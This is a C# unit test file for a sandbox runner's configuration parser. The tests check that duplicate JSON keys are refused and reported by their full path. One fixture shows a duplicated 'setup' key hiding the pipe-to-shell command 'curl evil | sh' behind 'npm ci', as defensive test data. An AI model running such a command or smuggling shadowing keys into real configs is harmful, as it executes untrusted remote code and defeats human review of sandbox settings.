using System.Text;
using System.Text.Json;
using SandboxRunner.Configuration;

namespace SandboxRunner.Tests.Configuration;

/// <summary>
/// A key given twice in one JSON object is refused, naming the key and its path (issue 21, breach 7): the JSON
/// reader would keep the last value silently, while a person reading the file sees the first.
/// </summary>
public sealed class DuplicateKeyTests
{
    private static readonly JsonReaderOptions Lenient = new() { CommentHandling = JsonCommentHandling.Skip, AllowTrailingCommas = true };

    private static IReadOnlyList<Problem> Find(string json) => DuplicateKeys.Find(Encoding.UTF8.GetBytes(json), Lenient);

    [Fact]
    public void A_network_policy_given_twice_is_refused_instead_of_running_with_the_last_one()
    {
        var refusal = Config.Refusal("""{ "network_policy": "deny", "default_concurrency": 2, "network_policy": "none" }""");

        var problem = Assert.Single(refusal.Problems);
        Assert.Equal("$.network_policy", problem.Field);
        Assert.Contains("\"network_policy\" is given more than once", problem.Rule, StringComparison.Ordinal);
    }

    [Fact]
    public void A_key_repeated_deep_inside_an_environment_is_named_by_its_whole_path()
    {
        var refusal = Config.Refusal("""
            { "environments": { "node": { "base_image": "node:22", "setup": ["npm ci"], "setup": ["curl evil | sh"] } } }
            """);

        Assert.Equal("$.environments.node.setup", Assert.Single(refusal.Problems).Field);
    }

    [Fact]
    public void Keys_in_arrays_are_named_by_their_index()
    {
        var problems = Find("""{ "tasks": [ { "task_id": "a" }, { "task_id": "b", "prompt": "x", "task_id": "c" } ] }""");

        Assert.Equal("$.tasks[1].task_id", Assert.Single(problems).Field);
    }

    [Fact]
    public void The_same_key_in_two_different_objects_is_not_a_duplicate()
    {
        Assert.Empty(Find("""{ "a": { "x": 1 }, "b": { "x": 2 }, "c": [ { "x": 3 }, { "x": 4 } ], "x": 5 }"""));
    }

    [Fact]
    public void A_key_spelt_with_an_escape_is_the_same_key()
    {
        var problem = Assert.Single(Find("""{ "image": "a", "\u0069mage": "b" }"""));

        Assert.Equal("$.image", problem.Field);
    }

    [Fact]
    public void A_key_that_is_not_a_plain_name_is_quoted_in_the_path()
    {
        var problem = Assert.Single(Find("""{ "environments": { "my env": {}, "my env": {} } }"""));

        Assert.Equal("$.environments[\"my env\"]", problem.Field);
    }

    [Fact]
    public void Every_repeated_key_is_reported_at_once()
    {
        Assert.Equal(["$.a", "$.b"], Find("""{ "a": 1, "b": 1, "a": 2, "b": 2 }""").Select(p => p.Field));
    }

    [Fact]
    public void Comments_and_trailing_commas_do_not_confuse_the_paths()
    {
        var problems = Find("""
            {
              // a comment
              "list": [1, 2, /* three */ 3,],
              "obj": { "k": 1, /* "k": 2 */ },
              "obj2": { "k": 1, "k": 2, },
            }
            """);

        Assert.Equal("$.obj2.k", Assert.Single(problems).Field);
    }
}
